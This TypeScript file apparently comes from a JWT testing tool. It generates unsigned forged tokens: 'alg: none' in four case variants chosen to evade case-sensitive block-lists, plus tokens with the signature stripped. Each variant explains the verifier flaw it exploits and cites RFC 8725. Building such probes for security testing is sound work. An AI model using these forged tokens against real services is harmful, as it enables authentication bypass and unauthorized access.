/**
 * Tokens without a signature: `none` (the header's alg says "none", in four spellings) and `null-signature`
 * (the original token with its signature segment emptied).
 */
import { assemble, signingInput } from './forge';
import { withHeaderMember, type AttackTarget } from './target';
import type { AttackVariant } from './types';

/** "none" as RFC 7518 §3.6 spells it, then the spellings that slip past a case-sensitive block-list. */
export const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

export function noneVariants(target: AttackTarget): AttackVariant[] {
  return NONE_SPELLINGS.map((spelling) => ({
    kind: 'none',
    variant: spelling,
    // The header is re-encoded with only alg changed; the payload segment is the original's.
    token: assemble(signingInput(withHeaderMember(target.headerText, 'alg', spelling), target.payloadSegment)),
    explanation:
      spelling === 'none'
        ? 'The header says alg "none" and the signature is empty: a verifier that lets the token choose its algorithm accepts it unsigned. ' +
          'RFC 8725 §3.1 requires the verifier to allow only the algorithms it expects, and §3.2 allows "none" only where something else protects the token.'
        : `The header says alg "${spelling}" and the signature is empty: a verifier that refuses "none" with a case-sensitive comparison, while its library reads the alg in any case, accepts it unsigned. ` +
          'RFC 8725 §3.1 requires an allow-list of the expected algorithms, not a block-list.',
  }));
}

export function nullSignatureVariants(target: AttackTarget): AttackVariant[] {
  return [
    {
      kind: 'null-signature',
      variant: target.alg,
      // Header and payload segments exactly as in the original token; only the signature is gone.
      token: `${target.headerSegment}.${target.payloadSegment}.`,
      explanation:
        'The original header and payload with the signature segment emptied: a verifier that skips the check when there is no signature (or compares only as many bytes as it was given) accepts it. ' +
        'RFC 8725 §3.3 requires every cryptographic operation to be validated and the whole JWT rejected if one fails.',
    },
  ];
}
